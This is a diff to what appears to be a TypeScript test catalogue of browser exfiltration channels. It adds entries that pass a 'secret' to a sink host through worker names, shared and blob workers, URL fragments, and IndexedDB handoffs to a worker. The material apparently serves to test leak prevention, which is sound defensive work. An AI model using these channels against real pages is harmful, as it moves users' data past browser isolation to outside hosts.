@@ -80,6 +80,35 @@ export const WORKERS: readonly Attack[] = [
     const address = `${secret.sink.replace(/^http/, 'ws')}socket`;
     new SharedWorker(`${secret.sink}shared.js`).port.postMessage({ socket: address, text: note(secret.text) });
   }),
+  row('81', 'name of a worker from a file', (secret) => {
+    const { url, text } = job(secret);
+    return new Worker(`${secret.sink}worker.js`, { name: JSON.stringify({ url, text }) });
+  }),
+  variant('81b', 'name of a shared worker', (secret) => {
+    const { url, text } = job(secret);
+    return new SharedWorker(`${secret.sink}shared.js`, JSON.stringify({ url, text }));
+  }),
+  variant('81c', 'name of a blob worker', (secret) => {
+    const { url, text } = job(secret);
+    blobWorker(`${RELAY} send(JSON.parse(name));`, { name: JSON.stringify({ url, text }) });
+  }),
+  row('82', 'fragment of a worker’s address', (secret) => {
+    const { url, text } = job(secret);
+    return new Worker(`${secret.sink}worker.js#${encodeURIComponent(JSON.stringify({ url, text }))}`);
+  }),
+  row('83', 'IndexedDB as a mailbox to a worker from a file', async (secret) => {
+    const { url, text } = job(secret);
+    await new Promise((resolve) => {
+      const open = indexedDB.open(secret.sink);
+      open.onupgradeneeded = () => open.result.createObjectStore('mail');
+      open.onsuccess = () => {
+        const put = open.result.transaction('mail', 'readwrite');
+        put.objectStore('mail').put(text, 'letter');
+        put.oncomplete = resolve;
+      };
+    });
+    new Worker(`${secret.sink}worker.js`).postMessage({ mail: secret.sink, url });
+  }),
   variant('23b', 'port handed to the service worker', async (secret) => {
     const registration = await navigator.serviceWorker.register(`${secret.sink}sw/worker.js`);
     const worker = registration.installing ?? registration.waiting ?? registration.active;
